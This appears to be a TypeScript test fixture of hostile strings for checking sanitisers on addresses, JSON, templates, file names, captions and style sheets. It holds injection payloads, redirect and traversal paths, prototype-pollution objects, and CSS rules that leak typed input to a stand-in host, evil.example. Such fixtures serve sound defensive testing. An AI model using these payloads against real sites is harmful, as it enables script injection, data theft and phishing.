/**
 * Hostile texts for places that expect something other than markup: addresses, style sheets, captions, names
 * of files, JSON, templates. As in ./hostileHtml, scripts call `hacked()` and foreign hosts are at
 * evil.example.
 */
export const hostileTexts: Record<string, string> = {
  // Addresses
  'an address that runs': 'javascript:hacked()',
  'an address that runs, in capitals behind a tab': '\tJAVA\tSCRIPT:hacked()',
  'an address that runs behind a comment': 'javascript://evil.example/%0ahacked()',
  'an address of data': 'data:text/html,<script>parent.hacked()</script>',
  'an address of a picture that runs':
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hacked()"/>',
  'an address without a scheme': '//evil.example/x',
  'an address with backslashes': '\\\\evil.example\\x',
  'an address that mixes slashes': '/\\evil.example/x',
  'an address with a user': 'https://user:secret@evil.example/x',
  'an address with our name in it': 'https://localhost.evil.example/x',
  'an address behind a line break': '\n//evil.example/x',
  'an address of a socket': 'wss://evil.example/socket',
  'an address of a blob': 'blob:https://evil.example/x',
  'a path that climbs': '../../../static/x?x=https://evil.example/',
  'a path that climbs, encoded': '%2e%2e%2f%2e%2e%2f%5cevil.example',
  'an address that redirects': '/signin?redirect=https://evil.example/',

  // Each of these ends an attribute, an element or a script
  'the end of an attribute': '" onmouseover="hacked()" onfocus="hacked()" autofocus x="',
  'the end of an attribute in single quotes': "' onmouseover='hacked()' onfocus='hacked()' autofocus x='",
  'the end of a title': '</title><script>hacked()</script>',
  'the end of a script': '</script><script>hacked()</script>',
  'the end of a script that holds data': '{"@type":"x"}</script><img src=x onerror=hacked()>',
  'the end of a text field': '</textarea><img src=x onerror=hacked()>',
  'the end of a style sheet': '</style><img src=x onerror=hacked()>',
  'the end of a text in a script': '";hacked();//',
  'the end of a text in a script, in single quotes': "';hacked();//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the hostile part
  'the end of a template': '`+hacked()+`${hacked()}',
  'separators of lines': '\u2028hacked()\u2029hacked()',

  // Templates, objects, codes
  'a template in braces': '{{constructor.constructor("hacked()")()}}',
  'a template of translations': '$t(frame.menu) {{- name}} {{hacked()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the hostile part
  'an expression': '${hacked()} #{hacked()} <%= hacked() %>',
  'a key of all objects':
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"src":"javascript:hacked()"}}}',
  'an element as data':
    '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"hacked()"}}',
  'markup as a property': '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hacked()>"}}',
  'markup in a property of the server':
    '{"html":"<img src=x onerror=hacked()>","url":"javascript:hacked()","src":"//evil.example/x"}',
  'a message of the card provider':
    '{"type":"redirect","url":"https://evil.example/","action":"javascript:hacked()"}',
  'an entity': '&lt;img src=x onerror=hacked()&gt;',
  'an entity in an entity': '&amp;lt;img src=x onerror=hacked()&amp;gt;',
  'letters in another code': '+ADw-img src=x onerror=hacked()+AD4-',
  'percent signs': '%3Cimg src=x onerror=hacked()%3E%3Cscript%3Ehacked()%3C/script%3E',
  'a number that is none': '1e999;hacked()',

  // Names of files
  'a name that climbs': '../../evil<img src=x onerror=hacked()>.pdf',
  'a name that turns round': 'invoice\u202Efdp.exe<img src=x onerror=hacked()>',
  'a name with a line break': 'x.pdf\r\nContent-Type: text/html\r\n\r\n<script>hacked()</script>',

  // Captions
  'a caption with a voice': '<v <img src=x onerror=hacked()>>x</v><img src=x onerror=hacked()>',
  'a caption with a class': '<c.plyr__control.ant-modal>x</c><00:00:01.000><ruby><rt>hacked()</rt></ruby>',
  'a caption with a style': 'STYLE\n::cue{background:url(https://evil.example/p.gif)}',
  'a caption with settings':
    '00:00.000 --> 99:00.000 position:0% size:100% line:0\n<script>hacked()</script>',

  // Style sheets
  'a rule that loads': 'p{background:url(https://evil.example/p.gif)}',
  'a rule that loads, escaped': 'p{background:\\75rl(https://evil.example/p.gif)}',
  'a rule that imports': '@import "https://evil.example/x.css";',
  'a rule that brings a font':
    '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}p{font-family:x}',
  'a rule that tells what is typed': 'input[value^="a"]{background-image:url(https://evil.example/a)}',
  'a rule that covers': 'p,main{position:fixed!important;inset:0!important;z-index:99999!important}',
  'a rule that hides the page': 'header,main,body>*{display:none!important}',
  'a rule that writes words': 'p::before{content:"Sign in again at evil.example";position:fixed;inset:0}',
  'a rule that moves the page': 'body{transform:translateX(-9999px)!important}',
  'a rule of a layer':
    '@layer a{body{position:fixed}}@scope(body){:scope{display:none}}@container(width>0){body{display:none}}',
  'a rule of another country':
    '@namespace svg url(http://www.w3.org/2000/svg);svg|a{fill:url(https://evil.example/x.svg#x)}',
  'an old expression':
    'p{width:expression(hacked());behavior:url(https://evil.example/x.htc);-moz-binding:url(//evil.example/x)}',
}
